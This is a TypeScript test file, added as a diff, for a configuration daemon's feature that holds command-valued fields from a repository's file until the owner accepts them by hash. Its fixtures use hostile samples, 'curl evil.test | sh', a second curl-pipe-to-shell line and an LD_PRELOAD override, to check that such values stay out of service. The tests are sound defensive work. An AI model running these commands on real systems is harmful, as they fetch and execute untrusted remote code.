@@ -1,0 +1,322 @@
+import { chmod, mkdir, readFile, stat, unlink, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import { hashOfValue } from "../../../main/daemon/store/trusted-values.ts";
+import type { JsonValue } from "../../../shared/json.ts";
+import { startTestDaemon, type TestDaemon, type TestDaemonOptions, until } from "../../helpers/daemon.ts";
+import { systemError, watchFileSystem } from "../../helpers/file-system.ts";
+import { healthOf, saveByRename } from "../../helpers/shop.ts";
+import { temporaryFolder } from "../../helpers/temporary-folder.ts";
+
+const service = (ready: string): JsonValue => ({ web: { ready, image: "node:24" } });
+const [good, evil, other] = [service("true"), service("curl evil.test | sh"), service("curl other.test | sh")];
+const textOf = (svc: { readonly [field: string]: JsonValue }) => `${JSON.stringify({ config: { svc } })}\n`;
+
+interface Tree extends AsyncDisposable {
+  readonly t: TestDaemon;
+  readonly home: string;
+  readonly folder: string;
+  /** Writes the work tree's file as git does, and waits until the daemon has taken it up. */
+  pull(svc: { readonly [field: string]: JsonValue }): Promise<void>;
+  served(field?: string): Promise<JsonValue | undefined>;
+  waiting(): Promise<readonly { readonly field: string; readonly value: JsonValue; readonly hash: string }[]>;
+  accept(value: JsonValue, field?: string): Promise<readonly { readonly code: number }[]>;
+  set(fields: { readonly [path: string]: JsonValue }): Promise<readonly { readonly code: number }[]>;
+}
+
+/** A daemon with the in-tree repository `site`, whose file says this when it is added. */
+async function startTree(
+  svc: { readonly [field: string]: JsonValue } = {},
+  options: TestDaemonOptions = {},
+): Promise<Tree> {
+  const above = await temporaryFolder();
+  const [home, folder] = [join(above.path, "home"), join(above.path, "site")];
+  const file = join(folder, ".repoconf.json");
+  await mkdir(folder);
+  await mkdir(home);
+  await writeFile(file, textOf(svc));
+  const t = await startTestDaemon({ home, sweepInterval: 3_600_000, ...options });
+  const { errors } = await t.owner.call("repo/add", { id: "site", name: "site", path: folder, inTree: true });
+  expect(errors).toEqual([]);
+  return {
+    t,
+    home,
+    folder,
+    pull: async pulled => {
+      await saveByRename(file, textOf(pulled));
+      await t.owner.call("file/read", { repo: "site" });
+    },
+    served: async (field = "services") => (await t.owner.call("config/list", { repo: "site" })).result["svc"]?.[field],
+    waiting: async () => (await t.owner.call("trust/list", { repo: "site" })).result,
+    accept: async (value, field = "svc.services") =>
+      (await t.owner.call("trust/accept", { repo: "site", field, hash: hashOfValue(value) })).errors,
+    set: async fields => (await t.owner.call("config/set", { repo: "site", ...fields })).errors,
+    [Symbol.asyncDispose]: async () => {
+      await t[Symbol.asyncDispose]();
+      await above[Symbol.asyncDispose]();
+    },
+  };
+}
+
+describe("a value that runs as a command and comes with a work tree's file", () => {
+  test("waits, told in the health, while what comes beside it is in service; the last good one serves", async () => {
+    await using tree = await startTree({ timeout: 30 });
+    await tree.set({ "svc.services": good });
+    await tree.pull({ timeout: 40, services: evil });
+    expect(await tree.served("timeout")).toBe(40);
+    expect(await tree.served()).toEqual(good);
+    const [problem, ...rest] = await healthOf(tree.t, "site");
+    expect(rest).toEqual([]);
+    expect(problem).toMatchObject({ code: 1114, field: "svc.services", line: 1 });
+    expect(problem?.message).toMatch(/repoconf trust.*its last good value is used/);
+    expect(problem?.message).not.toContain("evil");
+    expect((await tree.t.owner.call("trust/list")).result).toEqual([
+      { repo: "site", field: "svc.services", value: evil, hash: hashOfValue(evil), serving: good },
+    ]);
+    expect((await tree.t.owner.call("config/explain", { repo: "site", field: "svc.services" })).result).toMatchObject({
+      origin: "lastGood",
+      value: good,
+    });
+    // A set beside it leaves both as they are.
+    await tree.set({ "svc.timeout": 50 });
+    for (const restart of [async () => {}, tree.t.restart]) {
+      await restart();
+      expect(await tree.served()).toEqual(good);
+      expect(await tree.waiting()).toHaveLength(1);
+    }
+  });
+
+  test("waits from the first on, with the default serving; accepted it is in service as a change by hand", async () => {
+    await using tree = await startTree({ services: evil, envvars: [{ name: "LD_PRELOAD", value: "evil.so" }] });
+    expect(await tree.served()).toEqual({});
+    expect(await tree.served("envvars")).toEqual([]);
+    await tree.t.owner.call("config/watch", { repo: "site" });
+    const { result } = await tree.t.owner.call("trust/accept", {
+      repo: "site",
+      field: "svc.services",
+      hash: hashOfValue(evil),
+    });
+    expect(await tree.t.owner.nextChange()).toMatchObject({
+      revision: result.revision,
+      source: "file",
+      actor: "file",
+      changes: { svc: { services: { value: evil, previous: {} } } },
+    });
+    expect(await tree.served()).toEqual(evil);
+    expect((await tree.waiting()).map(({ field }) => field)).toEqual(["svc.envvars"]);
+    // Twice is once.
+    expect(await tree.accept(evil)).toEqual([]);
+    await tree.t.restart();
+    expect(await tree.served()).toEqual(evil);
+    expect(await tree.served("envvars")).toEqual([]);
+  });
+
+  test("is accepted by the hash that was shown: for another value than the file's it is 1104", async () => {
+    await using tree = await startTree();
+    await tree.pull({ services: evil });
+    await tree.pull({ services: other });
+    expect(await tree.accept(evil)).toMatchObject([{ code: 1104 }]);
+    expect(await tree.served()).toEqual({});
+    // Nor is it trusted for later.
+    await tree.pull({ services: evil });
+    expect(await tree.served()).toEqual({});
+  });
+
+  test("is asked for once: branches switch back and forth, also over a restart, whatever the order of members", async () => {
+    await using tree = await startTree();
+    await tree.set({ "svc.services": good });
+    await tree.pull({ services: evil });
+    expect(await tree.accept(evil)).toEqual([]);
+    for (const value of [good, evil, { web: { image: "node:24", ready: "true" } }, evil]) {
+      await tree.pull({ services: value });
+      expect(await tree.served()).toEqual(value);
+      await tree.pull({});
+      expect(await tree.served()).toEqual({});
+    }
+    await tree.t.restart();
+    await tree.pull({ services: good });
+    expect(await tree.served()).toEqual(good);
+    await tree.pull({ services: other });
+    expect(await tree.served()).toEqual({});
+  });
+
+  test("is trusted in its own field and repository alone", async () => {
+    const properties = {
+      run: { type: "string", "x-command": true, default: "" },
+      stop: { type: "string", "x-command": true, default: "" },
+    };
+    await using tree = await startTree();
+    await mkdir(join(tree.home, "scopes"), { recursive: true });
+    await writeFile(join(tree.home, "scopes/tasks.schema.json"), JSON.stringify({ type: "object", properties }));
+    await tree.t.restart();
+    await tree.set({ "tasks.run": "make" });
+    await saveByRename(
+      join(tree.folder, ".repoconf.json"),
+      JSON.stringify({ config: { tasks: { run: "make", stop: "make" } } }),
+    );
+    expect((await tree.waiting()).map(({ field }) => field)).toEqual(["tasks.stop"]);
+    const twin = join(tree.folder, "twin");
+    await mkdir(twin);
+    await writeFile(join(twin, ".repoconf.json"), JSON.stringify({ config: { tasks: { run: "make" } } }));
+    await tree.t.owner.call("repo/add", { id: "twin", name: "twin", path: twin, inTree: true });
+    const { result } = await tree.t.owner.call("trust/list");
+    expect(result.map(({ repo, field }) => `${repo} ${field}`)).toEqual(["site tasks.stop", "twin tasks.run"]);
+  });
+
+  test("a set of the very value trusts it; a dry run does not, nor does a set that is refused", async () => {
+    await using tree = await startTree();
+    await tree.pull({ services: evil });
+    await tree.t.owner.call("config/set", { repo: "site", "svc.services": evil, dryRun: true });
+    await tree.t.owner.call("config/set", { repo: "site", "svc.services": evil, "svc.timeout": -1, atomic: true });
+    expect(await tree.served()).toEqual({});
+    expect(await tree.set({ "svc.services": evil })).toEqual([]);
+    expect(await tree.served()).toEqual(evil);
+    expect(await healthOf(tree.t, "site")).toEqual([]);
+    await tree.t.restart();
+    await tree.pull({});
+    await tree.pull({ services: evil });
+    expect(await tree.served()).toEqual(evil);
+  });
+
+  test("undo and restore give no trust: a value of then that nobody trusted is 1114, and the rest is restored", async () => {
+    await using tree = await startTree();
+    await tree.pull({ services: evil, timeout: 40 });
+    await tree.accept(evil);
+    const { revision } = await tree.t.owner.call("config/list", { repo: "site" });
+    await tree.set({ "svc.services": good, "svc.timeout": 50 });
+    // As in a history of before there was trust.
+    await tree.t.daemon.close();
+    await unlink(join(tree.home, "trust.json"));
+    await tree.t.restart();
+    const restore = { repo: "site", to: revision };
+    const { errors, result } = await tree.t.owner.call("history/restore", restore);
+    expect(errors).toMatchObject([{ code: 1114, field: "svc.services", repo: "site" }]);
+    expect(result[0]?.config).toMatchObject({ svc: { timeout: { value: 40 } } });
+    expect(await tree.served("timeout")).toBe(40);
+    expect(await tree.served()).toEqual(good);
+    expect(await readFile(join(tree.folder, ".repoconf.json"), "utf8")).not.toContain("evil");
+    // What is in service when trust begins stays trusted.
+    await tree.pull({});
+    await tree.pull({ services: good });
+    expect(await tree.served()).toEqual(good);
+  });
+
+  test("of an earlier repository with the same id counts for nothing", async () => {
+    await using tree = await startTree({});
+    await tree.set({ "svc.services": evil });
+    await tree.t.owner.call("repo/remove", { repo: "site" });
+    await tree.t.owner.call("repo/add", { id: "site", name: "site", path: tree.folder, inTree: true });
+    expect(await tree.served()).toEqual({});
+    expect(await tree.waiting()).toHaveLength(1);
+  });
+
+  test("whose values are to be forgotten leaves no hash of them", async () => {
+    await using tree = await startTree({});
+    await tree.set({ "svc.services": evil });
+    await tree.set({ "svc.services": good });
+    await tree.t.owner.call("history/forget", { repo: "site", field: "svc.services" });
+    const text = await readFile(join(tree.home, "trust.json"), "utf8");
+    expect(text).toContain(hashOfValue(good));
+    expect(text).not.toContain(hashOfValue(evil));
+  });
+});
+
+test("a file of the home is the person's own: nothing waits there", async () => {
+  await using t = await startTestDaemon({ sweepInterval: 3_600_000 });
+  await t.addRepository("shop");
+  await t.writeRepository("shop", JSON.stringify({ name: "shop", config: { svc: { services: evil } } }));
+  await t.owner.call("file/read", { repo: "shop" });
+  expect((await t.owner.call("config/list", { repo: "shop" })).result["svc"]?.["services"]).toEqual(evil);
+  expect((await t.owner.call("trust/list")).result).toEqual([]);
+});
+
+test("what was in service before values had to be trusted stays so, with a history and without one", async () => {
+  await using tree = await startTree({});
+  await tree.set({ "svc.services": good });
+  await tree.t.daemon.close();
+  // Of a home before there was a journal, nor a file of trust.
+  const twin = join(tree.folder, "twin");
+  await mkdir(twin);
+  await writeFile(join(twin, ".repoconf.json"), textOf({ services: other }));
+  const pointer = JSON.stringify({ name: "twin", path: twin, inTree: true });
+  await writeFile(join(tree.home, "repos/twin.json"), pointer);
+  await unlink(join(tree.home, "trust.json"));
+  await tree.t.restart();
+  const services = async (repo: string) =>
+    (await tree.t.owner.call("config/list", { repo })).result["svc"]?.["services"];
+  expect([await services("site"), await services("twin")]).toEqual([good, other]);
+  // Once: one that comes later is asked for.
+  const third = join(tree.folder, "third");
+  await mkdir(third);
+  await writeFile(join(third, ".repoconf.json"), textOf({ services: other }));
+  await tree.t.daemon.close();
+  await writeFile(join(tree.home, "repos/third.json"), pointer.replaceAll("twin", "third"));
+  await tree.t.restart();
+  expect(await services("third")).toEqual({});
+});
+
+describe("trust/*", () => {
+  test("is the owner's alone, and says what is wrong with the arguments", async () => {
+    await using tree = await startTree({ services: evil });
+    const limited = await tree.t.connectWith([{ repos: "*", fields: ["*"], right: "write" }]);
+    const args = { repo: "site", field: "svc.services", hash: hashOfValue(evil) };
+    expect((await limited.call("trust/list")).errors).toMatchObject([{ code: 1105 }]);
+    expect((await limited.call("trust/accept", args)).errors).toMatchObject([{ code: 1105 }]);
+    const codeOf = async (wrong: object) =>
+      (await tree.t.owner.call("trust/accept", { ...args, ...wrong })).errors[0]?.code;
+    expect(await codeOf({ repo: null })).toBe(1006);
+    expect(await codeOf({ repo: "nope" })).toBe(1102);
+    expect(await codeOf({ field: "" })).toBe(1008);
+    expect(await codeOf({ field: "svc.nope" })).toBe(1011);
+    expect(await codeOf({ field: "svc.timeout" })).toBe(1104);
+    expect(await codeOf({ hash: "0" })).toBe(1104);
+    await writeFile(join(tree.folder, ".repoconf.json"), "{");
+    expect(await codeOf({})).toBe(1106);
+    // Whoever may write the field may set it, and so trust it.
+    await tree.pull({ services: evil });
+    expect((await limited.call("config/set", { repo: "site", "svc.services": evil })).errors).toEqual([]);
+    expect(await tree.served()).toEqual(evil);
+  });
+
+  test("a disk that refuses keeps what was accepted out of service, with 1108", async () => {
+    const fileSystem = watchFileSystem();
+    await using tree = await startTree({ services: evil }, { fileSystem });
+    let isFull = true;
+    fileSystem.before = ({ operation, path }) => {
+      if (isFull && operation === "rename" && path.includes("/tmp/")) throw systemError("ENOSPC");
+    };
+    expect(await tree.accept(evil)).toMatchObject([{ code: 1108 }]);
+    await tree.t.owner.call("file/read", { repo: "site" });
+    expect(await tree.served()).toEqual({});
+    isFull = false;
+    expect(await tree.accept(evil)).toEqual([]);
+    expect(await tree.served()).toEqual(evil);
+  });
+
+  test("trust.json is closed to others, and a damaged one trusts nothing but what is in service", async () => {
+    await using tree = await startTree({});
+    await tree.set({ "svc.services": evil });
+    await tree.set({ "svc.services": good });
+    const file = join(tree.home, "trust.json");
+    if (process.platform !== "win32") expect((await stat(file)).mode & 0o777).toBe(0o600);
+    await tree.t.daemon.close();
+    await writeFile(file, "{");
+    if (process.platform !== "win32") await chmod(file, 0o666);
+    await tree.t.restart();
+    expect(await tree.served()).toEqual(good);
+    expect(tree.t.log.some(line => line.includes("trust.json cannot be used"))).toBe(true);
+    await tree.pull({ services: evil });
+    expect(await tree.served()).toEqual(good);
+    await until(async () => (await stat(file)).size > 2, "the file to be written again");
+    if (process.platform !== "win32") expect((await stat(file)).mode & 0o777).toBe(0o600);
+  });
+
+  test("a schema whose x-command is neither true nor false is not used", async () => {
+    await using t = await startTestDaemon();
+    const properties = { run: { type: "string", "x-command": "true", default: "" } };
+    await writeFile(join(t.homeFolder, "scopes/tasks.schema.json"), JSON.stringify({ type: "object", properties }));
+    await t.restart();
+    const { result } = await t.owner.call("daemon/status");
+    expect(result.problems).toEqual([expect.stringContaining(`"x-command" of the field "run" must be true or false`)]);
+  });
+});
